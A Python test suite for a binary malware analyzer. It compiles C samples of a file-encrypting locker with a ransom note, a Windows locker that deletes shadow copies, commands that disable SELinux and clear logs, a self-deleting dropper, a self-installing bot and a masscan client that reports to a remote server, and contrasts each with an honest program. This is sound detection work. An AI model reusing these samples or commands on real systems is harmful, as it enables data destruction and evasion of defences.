"""Impact and defence evasion in compiled code, end to end: ransomware, VM killers, protection
switches, self-deletion and C2 implants built with gcc (never run), examined by the binary
analyzer, beside the honest programs that do part of the same and must stay below the gate."""

from __future__ import annotations

from pathlib import Path

from binbuild import compile_c
from binexam import behaviours, capabilities_of, finding, findings_of, raised_by
from finalexam.model import FindingKind, Severity

# A file locker as ransomware families write it: nftw over a tree, its own Salsa/ChaCha-style
# keystream (the "expand 32-byte k" constant), each file rewritten and renamed, a note left.
LOCKER = r"""
#define _XOPEN_SOURCE 700
#include <ftw.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static const char sigma[16] = "expand 32-byte k";
static const char *note = "@NOTE@";
static const char *after = "@AFTER@";

static void keystream(uint8_t out[64], uint32_t counter) {
    uint32_t words[16];
    memcpy(words, sigma, sizeof sigma);
    for (int i = 4; i < 16; i++) words[i] = counter * 2654435761u + (uint32_t)i;
    memcpy(out, words, 64);
}

static int lock(const char *path, const struct stat *st, int type, struct FTW *walk) {
    (void)st; (void)walk;
    if (type != FTW_F) return 0;
    FILE *f = fopen(path, "r+b");
    if (!f) return 0;
    uint8_t buf[64], key[64];
    size_t n; uint32_t block = 0; long at = 0;
    while ((n = fread(buf, 1, sizeof buf, f)) > 0) {
        keystream(key, block++);
        for (size_t i = 0; i < n; i++) buf[i] ^= key[i];
        fseek(f, at, SEEK_SET); fwrite(buf, 1, n, f); at += (long)n; fseek(f, at, SEEK_SET);
    }
    fclose(f);
    char locked[4096];
    snprintf(locked, sizeof locked, "%s.locked", path);
    return rename(path, locked) != 0;
}

int main(int argc, char **argv) {
    if (argc < 6) return 0;
    nftw(argv[1], lock, 16, FTW_PHYS);
    FILE *out = fopen("@NOTE_NAME@", "w");
    if (out) { fputs(note, out); fclose(out); }
    return system(after);
}
"""

RANSOM_NOTE = (
    "All your files have been encrypted. To get them back, pay 0.05 bitcoin and write to us "
    "with your personal ID. Do not rename encrypted files: they will be lost forever."
)
# The same walker and cipher as an honest encrypting backup tool: its text may even say
# "restore your files" and "contact us", which is one payment/contact word, not a note.
BACKUP_NOTE = "Backup sealed. Restore your files with: seal restore DIR. Questions? Contact us."


def locker(note: str, note_name: str, after: str = "true") -> str:
    return (
        LOCKER.replace("@NOTE@", note).replace("@NOTE_NAME@", note_name).replace("@AFTER@", after)
    )


def test_walk_encrypt_and_ransom_note_is_ransomware(tmp_path: Path) -> None:
    binary = compile_c(tmp_path, "locker", ["-O0"], locker(RANSOM_NOTE, "HOW_TO_DECRYPT.txt"))
    found = findings_of(binary)
    assert behaviours(found)["capability.behavior-ransomware"].severity is Severity.CRITICAL
    assert raised_by(found, "behavior-ransomware") == ["crypto", "file-enumeration", "ransom-note"]
    # the parts are reported with what matched and where
    note = finding(found, "capability.ransom-note")
    assert note.kind is FindingKind.BINARY and note.severity is Severity.MEDIUM
    data = binary.read_bytes().lower()
    offsets = note.evidence.details["offsets"]
    assert offsets["files have been encrypted"] == data.index(b"files have been encrypted")
    assert offsets["how_to_decrypt"] == data.index(b"how_to_decrypt")
    assert {"bitcoin", "do not rename", "lost forever"} <= set(note.evidence.details["strings"])


def test_an_encrypting_backup_tool_is_not_ransomware(tmp_path: Path) -> None:
    binary = compile_c(tmp_path, "seal", ["-O0"], locker(BACKUP_NOTE, "seal.log"))
    found = findings_of(binary)
    assert not behaviours(found)
    assert not [f for f in found if f.rule_id.startswith("capability.")]


def test_walk_encrypt_and_kill_every_vm_is_ransomware(tmp_path: Path) -> None:
    source = locker(
        BACKUP_NOTE, "esx.log", "esxcli vm process kill --type=force --world-id=%s"
    )  # ESXi lockers stop the VMs first so that their disks can be opened
    found = findings_of(compile_c(tmp_path, "esx", ["-O0"], source))
    assert raised_by(found, "behavior-ransomware") == ["crypto", "file-enumeration", "service-stop"]


TOOLKIT = r"""
#include <stdlib.h>
int main(int argc, char **argv) {
    (void)argv;
    if (argc < 6) return 0;
    @COMMANDS@
    return 0;
}
"""


def toolkit(*commands: str) -> str:
    return TOOLKIT.replace("@COMMANDS@", " ".join(f'system("{c}");' for c in commands))


def test_switching_protections_off_and_clearing_logs_is_a_behaviour(tmp_path: Path) -> None:
    source = toolkit("setenforce 0", "chattr -ia /opt/app/run", "cat /dev/null > /var/log/wtmp")
    found = findings_of(compile_c(tmp_path, "cleaner", ["-O0"], source))
    assert raised_by(found, "behavior-defense-evasion") == [
        "evasion-impair-defenses",
        "evasion-log-clearing",
        "process-creation",
    ]
    impair = finding(found, "capability.evasion-impair-defenses")
    assert impair.severity is Severity.MEDIUM
    assert impair.evidence.details["strings"] == ["setenforce 0"]
    assert impair.evidence.details["patterns"] == ["chattr -i"]  # flags -ia: the i counts


def test_one_protection_command_alone_stays_below_the_gate(tmp_path: Path) -> None:
    found = findings_of(compile_c(tmp_path, "unlock", ["-O0"], toolkit("chattr -i /etc/hosts")))
    assert not behaviours(found)
    assert finding(found, "capability.evasion-impair-defenses").severity is Severity.MEDIUM
    # setting the immutable bit protects a file: not a finding at all
    found = findings_of(compile_c(tmp_path, "lock", ["-O0"], toolkit("chattr +i /etc/hosts")))
    assert "capability.evasion-impair-defenses" not in {f.rule_id for f in found}


def test_a_dropper_deleting_itself_is_reported(tmp_path: Path) -> None:
    source = toolkit(r"sleep 1; rm -f \"$0\"")  # C source: "sleep 1; rm -f \"$0\""
    found = findings_of(compile_c(tmp_path, "dropper", ["-O0"], source))
    deletion = finding(found, "capability.evasion-self-deletion")
    assert deletion.severity is Severity.LOW and deletion.kind is FindingKind.BINARY
    assert not behaviours(found)


LOADER = r"""
unsigned long @EXPORT@(void *base) { return (unsigned long)base + 1; }
"""


def test_a_reflective_loader_export_is_a_c2_implant(tmp_path: Path) -> None:
    flags = ["-shared", "-fPIC", "-O0"]
    implant = compile_c(
        tmp_path, "beacon.so", flags, LOADER.replace("@EXPORT@", "ReflectiveLoader")
    )
    c2 = behaviours(findings_of(implant))["capability.c2-framework"]
    assert c2.evidence.details["exports"] == ["ReflectiveLoader"] and c2.severity is Severity.HIGH
    plugin = compile_c(tmp_path, "plugin.so", flags, LOADER.replace("@EXPORT@", "plugin_init"))
    assert not behaviours(findings_of(plugin))


WIN_LOCKER = r"""
#include <windows.h>
#include <wincrypt.h>
int main(int argc, char **argv) {
    if (argc < 6) return 0;
    WinExec("cmd.exe /c vssadmin.exe delete shadows /all /quiet", SW_HIDE);
    WIN32_FIND_DATAW found;
    HANDLE walk = FindFirstFileW(L"C:\\Users\\*", &found);
    HCRYPTPROV provider = 0; HCRYPTKEY key = 0;
    CryptAcquireContextW(&provider, 0, 0, PROV_RSA_AES, CRYPT_VERIFYCONTEXT);
    CryptGenKey(provider, CALG_AES_256, CRYPT_EXPORTABLE, &key);
    do {
        BYTE block[16]; DWORD size = sizeof block;
        CryptEncrypt(key, 0, TRUE, 0, block, &size, sizeof block);
        MoveFileExW(found.cFileName, L"x.locked", MOVEFILE_REPLACE_EXISTING);
    } while (FindNextFileW(walk, &found));
    return 0;
}
"""


def test_a_windows_locker_that_deletes_shadow_copies_is_ransomware(tmp_path: Path) -> None:
    flags = ["-O0", "-ladvapi32"]
    source = WIN_LOCKER
    binary = compile_c(tmp_path, "locker.exe", flags, source, "x86_64-w64-mingw32-gcc")
    found = findings_of(binary)
    assert raised_by(found, "behavior-ransomware") == [
        "crypto",
        "disk-wiping-windows",
        "file-enumeration",
    ]
    wiping = finding(found, "capability.disk-wiping-windows")
    assert wiping.evidence.offset == binary.read_bytes().lower().index(
        b"vssadmin.exe delete shadows"
    )
    # without the shadow copies' deletion it is what any file encryptor does
    honest = source.replace("vssadmin.exe delete shadows /all /quiet", "echo sealed")
    sealed = compile_c(tmp_path, "seal.exe", flags, honest, "x86_64-w64-mingw32-gcc")
    assert not behaviours(findings_of(sealed))


BOT = r"""
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
int main(int argc, char **argv) {
    if (argc < 6) return 0;
    char self[512] = {0}, command[1200];
    snprintf(command, sizeof command, "/proc/%d/exe", getpid());
    readlink(command, self, sizeof self - 1);
    snprintf(command, sizeof command, "@COPY@", self, argv[1]);
    system(command);
    snprintf(command, sizeof command, "ln -s /etc/init.d/%s %s", argv[1], argv[2]);
    return system(command);
}
"""


def test_a_bot_installing_a_copy_of_itself_at_boot_is_a_behaviour(tmp_path: Path) -> None:
    found = findings_of(compile_c(tmp_path, "bot", ["-O0"], BOT.replace("@COPY@", "cp %s %s -rf")))
    assert raised_by(found, "behavior-self-install") == ["persistence-sysv-init", "self-copy"]
    # a daemon that finds its own path and links its init script, copying nothing
    honest = BOT.replace("@COPY@", "logger %s started %s")
    found = findings_of(compile_c(tmp_path, "daemon", ["-O0"], honest))
    assert not behaviours(found)
    assert "capability.self-copy" not in {f.rule_id for f in found}


SNIFFER = r"""
extern void *pcap_open_live(const char *, int, int, int, char *);
extern int pcap_loop(void *, int, void (*)(unsigned char *, const void *, const unsigned char *),
                     unsigned char *);
static void on_packet(unsigned char *user, const void *header, const unsigned char *bytes) {
    (void)user; (void)header; (void)bytes;
}
int watch(const char *device) {
    char error[256];
    void *handle = pcap_open_live(device, 65535, 1, 1000, error);
    return handle ? pcap_loop(handle, -1, on_packet, 0) : -1;
}
"""


def test_packet_capture_is_a_fact_ordinary_for_network_tools(tmp_path: Path) -> None:
    library = compile_c(tmp_path, "libwatch.so", ["-shared", "-fPIC", "-O0"], SNIFFER)
    raw = capabilities_of(library)["network-raw"]
    assert raw["severity"] == "info"
    assert raw["evidence"]["imports"] == ["pcap_loop", "pcap_open_live"]
    assert capabilities_of(library, "tcpdump")["network-raw"]["expected_for"] == "network-tool"


# A scanning bot's client: masscan over a range on the VNC ports, the hosts found posted back to
# its server. The honest shape writes them to a local file for the person who ran it.
SCANNER = r"""
#include <arpa/inet.h>
#include <spawn.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>
extern char **environ;

static void report(const char *found) {
#ifdef REPORT
    struct sockaddr_in server = {0};
    server.sin_family = AF_INET;
    server.sin_port = htons(8080);
    inet_pton(AF_INET, "198.51.100.7", &server.sin_addr);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(s, (struct sockaddr *)&server, sizeof server) == 0)
        send(s, found, strlen(found), 0);
    close(s);
#else
    FILE *out = fopen("found.txt", "a");
    if (out) { fputs(found, out); fclose(out); }
#endif
}

int main(int argc, char **argv) {
    if (argc < 2) return 1;
    char *args[] = {"masscan", argv[1], "-p5900-5999", "--open-only", "--rate", "10000",
                    "-oL", "found.txt", NULL};
    pid_t pid;
    printf("Running masscan with args %s\n", argv[1]);
    if (posix_spawnp(&pid, "masscan", NULL, NULL, args, environ) != 0) return 1;
    waitpid(pid, NULL, 0);
    report(argv[1]);
    return 0;
}
"""


def test_a_mass_scanner_driver_that_reports_to_a_server_is_a_scanning_bot(tmp_path: Path) -> None:
    found = findings_of(compile_c(tmp_path, "client", ["-O0", "-DREPORT"], SCANNER))
    assert raised_by(found, "behavior-scanner-bot") == ["network-client", "network-scanner"]
    scanner = finding(found, "capability.network-scanner")
    assert scanner.severity is Severity.MEDIUM
    assert scanner.evidence.details["strings"] == ["--open-only", "--rate", "masscan"]


def test_a_scanner_front_end_without_a_server_stays_below_the_gate(tmp_path: Path) -> None:
    program = compile_c(tmp_path, "scan-local", ["-O0"], SCANNER)
    found = findings_of(program)
    assert not behaviours(found)
    assert finding(found, "capability.network-scanner").severity is Severity.MEDIUM
    # the scanner's own package names it a network tool: ordinary there, even when it reports
    client = compile_c(tmp_path, "client", ["-O0", "-DREPORT"], SCANNER)
    assert not behaviours(findings_of(client, "masscan"))
    assert capabilities_of(client, "masscan")["network-scanner"]["expected_for"] == "network-tool"
